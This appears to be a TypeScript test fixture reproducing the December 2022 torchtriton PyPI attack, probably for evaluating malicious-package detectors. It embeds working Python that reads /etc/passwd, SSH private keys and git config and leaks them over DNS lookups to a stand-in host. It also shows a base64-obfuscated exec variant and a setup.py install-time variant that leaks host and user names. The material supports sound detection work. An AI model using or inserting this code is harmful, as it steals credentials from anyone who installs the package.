import { base64, type Campaign, sdist, wheel } from './kit.ts';

const DNS = `import os, socket, binascii
for path in ('/etc/passwd', os.path.expanduser('~/.ssh/id_rsa'), os.path.expanduser('~/.gitconfig')):
    text = binascii.hexlify(open(path, 'rb').read()).decode()
    for at in range(0, len(text), 50):
        socket.gethostbyname(text[at:at + 50] + '.h4ck.weir.test')
`;

export const campaign: Campaign = {
  id: 'pypi-torchtriton',
  row: 'torchtriton 12/2022: a shipped program, names and files in DNS',
  variants: [
    { concealment: 'plain', files: wheel(DNS) },
    {
      concealment: 'obfuscated',
      files: wheel(`from base64 import b64decode as d\nexec(d(b'${base64(DNS)}').decode())\n`),
    },
    {
      concealment: 'moved',
      files: sdist(
        "import os, socket\nfrom setuptools import setup\nsocket.gethostbyname(os.uname().nodename + '.' + os.getlogin() + '.h4ck.weir.test')\nsetup(name='campaign-sample')\n",
      ),
    },
  ],
};
